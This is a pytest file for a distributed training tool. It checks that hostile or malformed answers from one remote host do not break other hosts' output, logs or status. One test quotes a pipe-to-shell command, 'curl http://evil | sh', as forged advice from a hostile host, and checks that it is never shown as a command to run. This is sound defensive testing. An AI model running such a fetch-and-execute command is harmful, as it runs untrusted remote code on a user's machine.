"""A hostile or broken host affects only its own part of a command's output."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.program import Program
from tests.wire import hostile
from tests.wire.hostile import HostileHost
from tests.wire.machines import Lab, lab

pytestmark = pytest.mark.wire


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Lab]:
    with lab(tmp_path / "lab") as user:
        user.add_known_hosts(user.machine("gpu1"), user.machine("gpu2"))
        yield user


def test_healthy_hosts_of_a_fleet_with_a_hostile_host_stay_usable(
    program: Program, home: Lab, tmp_path: Path
) -> None:
    healthy = home.machines["gpu1"]
    program.run("up", "--inventory", str(home.inventory("gpu1", "gpu2")))
    program.script("task.py", "print('it runs')\n")
    program.run("train", "task.py")
    worker_1 = HostileHost(program, tmp_path)
    for answer in (
        hostile.NESTED,
        hostile.WRONG_TYPES,
        hostile.NOT_A_RECORD,
        hostile.HUGE_NUMBERS,
        hostile.HALF_A_CHARACTER,
    ):
        worker_1.set_answer(answer)
        status = program.run("status", code=None)
        assert "worker-0" in status.text + status.err
        assert_no_bug(status.text + status.err)
    worker_1.set_answer(hostile.FALSE_ADVICE)
    advised = program.run("train", "task.py", code=14)
    assert "worker-1 suggests: curl http://evil | sh next: curl http://evil | sh" in advised.err
    assert not [line for line in advised.err.splitlines() if line.strip().startswith(("next:", "curl", "rm"))]
    worker_1.set_answer(hostile.WRONG_TYPES)
    train = program.run("train", "task.py", code=14)
    assert "worker-1" in train.err
    assert_no_bug(train.err)
    assert healthy.files_in_home()
    down = program.run("down", "--yes", code=None)
    assert_no_bug(down.err)
    assert "worker-1" in down.err
    assert healthy.files_in_home() == []


# The first failure ends the other task, which must have printed its line.
FAILS_TOGETHER = """
import os, time
print("it runs", flush=True)
path = {!r}
open(path + os.environ["FLEET_RANK"], "w").close()
while not (os.path.exists(path + "0") and os.path.exists(path + "1")):
    time.sleep(0.02)
raise SystemExit(3)
"""


def test_a_false_result_of_one_host_hides_no_other_result(program: Program, tmp_path: Path) -> None:
    program.run("up", "--workers", "2")
    program.script("task.py", FAILS_TOGETHER.format(str(tmp_path / "task-")))
    failed = program.run("train", "task.py", code=100)
    job = program.host_file("*-worker-0/fleet/jobs/*").name
    worker_1 = HostileHost(program, tmp_path)
    worker_1.set_answer(hostile.FALSE_RESULT.format(job=job))
    logs = program.run("logs", code=100)
    assert "it runs" in logs.text
    assert "worker-1 reports a different result: the job succeeded in attempt 1000000000" in logs.err
    status = next(event for event in program.run("status", "-o", "json").events if event["event"] == "fleet_status")
    assert (status["job"]["result"]["outcome"], status["job"]["attempt"]) == ("failed", 1)
    assert "worker-1 reports a different result" in status["job"]["warning"]
    worker_1.set_answer(hostile.FALSE_RESULT.format(job="99999999-000000-aaaa"))
    logs = program.run("logs", code=100)
    assert "it runs" in logs.text
    assert "worker-1 reports a newer job, 99999999-000000-aaaa" in logs.err
    worker_1.set_answer(hostile.WRONG_TYPES)
    logs = program.run("logs", code=100)
    assert "it runs" in logs.text
    assert "its log is left out" in logs.err
    stop = program.run("stop", code=14)
    assert "worker-1" in stop.err
    for text in (failed.err, logs.err, stop.err):
        assert_no_bug(text)


def assert_no_bug(text: str) -> None:
    assert "a bug of fleet" not in text, text
    assert "Traceback" not in text, text
